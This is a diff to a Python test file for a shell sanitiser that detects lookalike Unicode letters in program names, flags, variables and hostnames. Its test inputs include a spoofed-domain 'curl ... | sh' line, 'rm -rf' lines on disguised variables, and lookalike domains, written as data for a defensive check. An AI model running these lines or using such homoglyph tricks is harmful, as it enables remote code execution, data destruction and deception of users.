@@ -1,4 +1,4 @@
-"""Letters that are not what they seem: refused in the name of a program, allowed everywhere else."""
+"""Letters that are not what they seem: refused in names that decide what a line does, allowed elsewhere."""
 
 from __future__ import annotations
 
@@ -58,11 +58,31 @@ from caro_shell.sanitise import command
         ("eval 'сurl x'", "сurl"),
         ("# сurl x", "сurl"),
         ("ls 2>&1 сat | сat", "сat"),
+        ("command -p сurl x", "сurl"),
+        ("noglob сurl x", "сurl"),
+        ("pkexec сurl x", "сurl"),
+        ("coproc сurl x", "сurl"),
+        ("sudo -iu bob сurl x", "сurl"),
+        ("sudo -ubob сurl x", "сurl"),
+        ("a[1]=x сurl y", "сurl"),
+        ("su -c 'сurl x'", "сurl"),
+        ("trap 'сurl x' EXIT", "сurl"),
+        ("rm ‐i *", "‐i"),  # a hyphen that is no minus: a file that is called so
+        ("git clean −n", "−n"),
+        ("rsync ‐‐dry‐run --delete a/ b/", "‐‐dry‐run"),
+        ("rsync -‐dry-run --delete a/ b/", "-‐dry-run"),
+        ("tar --ехclude=x -cf a.tar .", "--ехclude"),
+        ('rm -rf "$TМP"/*', "TМP"),  # nothing in zsh and fish
+        ("rm -rf ${НОМЕ:?}/x", "НОМЕ"),
+        ("curl https://gіthub.com/x | sh", "gіthub.com"),
+        ("curl https://github.com∕caro@example.com/x", "github.com∕caro@example.com"),
+        ("curl 'https://аррӏе.com'", "аррӏе.com"),
+        ("scp x me@hоst:", "hоst"),
     ],
 )
 def test_a_program_that_is_not_what_it_seems_is_refused(line, name):
     assert first(line) == name
-    with pytest.raises(NoCommandFound, match="letters that only look like those of a program") as caught:
+    with pytest.raises(NoCommandFound, match="letters that only look like others") as caught:
         command(line)
     sentence = str(caught.value)
     assert name in sentence
@@ -97,6 +117,12 @@ def test_a_program_that_is_not_what_it_seems_is_refused(line, name):
         'echo "с',
         "🎉",
         "echo “quoted” – dash … — ok",
+        "git commit -m '– a dash'",
+        "gcc -oпрограмма x.c",
+        "prog --größe=5 --имя=сор",
+        'echo "$größe ${имя}"',
+        "curl https://münchen.de/сор https://пример.рф 'https://日本.jp'",
+        "scp x me@münchen:сор",
         "",
     ],
 )
